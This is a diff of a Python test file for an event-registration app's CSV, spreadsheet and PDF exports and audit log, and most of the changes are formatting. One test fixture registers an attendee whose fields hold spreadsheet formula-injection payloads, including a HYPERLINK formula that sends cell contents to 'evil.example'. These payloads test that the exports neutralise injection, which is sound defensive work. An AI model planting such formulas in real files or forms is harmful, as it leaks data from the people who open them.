@@ -1,4 +1,5 @@
 """Exports read back: csv, openpyxl, pypdf; and the audit log."""
+
 import csv
 import io
 
@@ -17,8 +18,11 @@ def day(organiser):
     event = make_event(organiser, slug="jour", capacity=30, registration_opens_at=None, registration_closes_at=None)
     q = questions.add_form_question(event, {"label": "Repas sur place ?", "kind": "yes_no"}, actor=organiser)
     for n in range(32):
-        r = registration.register(event, person(n, last_name=f"Nom{n:02d}é", organisation="Structure à Lille"),
-                                  answers={str(q.id): "yes" if n % 2 else "no"}).registration
+        r = registration.register(
+            event,
+            person(n, last_name=f"Nom{n:02d}é", organisation="Structure à Lille"),
+            answers={str(q.id): "yes" if n % 2 else "no"},
+        ).registration
         if n < 10:
             service.check_in(event, r, actor=organiser)
     return event
@@ -78,6 +82,7 @@ def test_every_export_is_in_the_audit_log(signed_in, day, organiser):
 
 def test_other_organisers_cannot_export(client, day, other_organiser):
     from tests.conftest import login
+
     login(client, email=other_organiser.email)
     assert client.get("/manage/jour/exports/presence.csv").status_code == 403
     assert [line for line in audit.entries(day) if not line.kind.startswith("door.")] == []
@@ -92,12 +97,14 @@ def served(app, day):
     from forum.extensions import db
     from tests.factories import PASSWORD
     from tests.servers import http_server
+
     token = issue_api_token(day.organisers[0])
     db.session.remove()
     with http_server(app) as base:
         browser = requests.Session()
-        assert browser.post(f"{base}/login", data={"email": "organisatrice@example.org", "password": PASSWORD},
-                            timeout=10).status_code in (200, 302)
+        assert browser.post(
+            f"{base}/login", data={"email": "organisatrice@example.org", "password": PASSWORD}, timeout=10
+        ).status_code in (200, 302)
         yield base, browser, token
 
 
@@ -132,12 +139,15 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
 @pytest.fixture
 def hostile(organiser):
     from datetime import datetime
+
     event = make_event(organiser, slug="piege", registration_opens_at=None, registration_closes_at=None)
-    r = registration.register(event, person(1, last_name=EVIL, first_name="+33 6", organisation="@SUM(A1)",
-                                            territory="-2+3")).registration
+    r = registration.register(
+        event, person(1, last_name=EVIL, first_name="+33 6", organisation="@SUM(A1)", territory="-2+3")
+    ).registration
     service.check_in(event, r, actor=organiser)
     r.created_at, r.checked_in_at = datetime(2030, 6, 13, 7, 5), datetime(2030, 6, 13, 11, 40)  # UTC, summer
     from forum.extensions import db
+
     db.session.commit()
     return event
 
@@ -173,9 +183,14 @@ def test_export_times_are_in_the_events_time_zone_and_say_so(hostile, organiser)
 
 def test_a_long_title_wraps_within_the_sign_in_sheets_margins(organiser):
     from reportlab.pdfbase.pdfmetrics import stringWidth
-    long_title = ("Rencontre régionale des médiateurs sociaux et de leurs partenaires institutionnels, associatifs "
-                  "et territoriaux de la région Hauts-de-France, édition de printemps")
-    event = make_event(organiser, slug="long", title=long_title, registration_opens_at=None, registration_closes_at=None)
+
+    long_title = (
+        "Rencontre régionale des médiateurs sociaux et de leurs partenaires institutionnels, associatifs "
+        "et territoriaux de la région Hauts-de-France, édition de printemps"
+    )
+    event = make_event(
+        organiser, slug="long", title=long_title, registration_opens_at=None, registration_closes_at=None
+    )
     reader = PdfReader(io.BytesIO(exports.signin_pdf(event, actor=organiser)))
     page = reader.pages[0]
     right_edge = float(page.mediabox.width) - 15 * 72 / 25.4
@@ -184,6 +199,7 @@ def test_a_long_title_wraps_within_the_sign_in_sheets_margins(organiser):
     def seen(text, cm, tm, font, size):
         if text.strip():
             drawn.append((text, tm[4], tm[0] * size if size else 0))
+
     page.extract_text(visitor_text=seen)
     title_lines = [(t, x, s) for t, x, s in drawn if s == 13 or t.strip() in long_title]
     assert " ".join(t.strip() for t, _, _ in title_lines if t.strip() in long_title).split() == long_title.split()
@@ -195,8 +211,10 @@ def test_a_long_title_wraps_within_the_sign_in_sheets_margins(organiser):
 def test_api_attendance_csv_over_http_streams_every_row(served):
     base, _, token = served
     import requests
-    response = requests.get(f"{base}/api/v1/events/jour/attendance.csv", timeout=10,
-                            headers={"Authorization": f"Bearer {token}"})
+
+    response = requests.get(
+        f"{base}/api/v1/events/jour/attendance.csv", timeout=10, headers={"Authorization": f"Bearer {token}"}
+    )
     assert response.status_code == 200
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:])))
     assert len(rows) == 31 and all(len(row) == len(rows[0]) for row in rows)
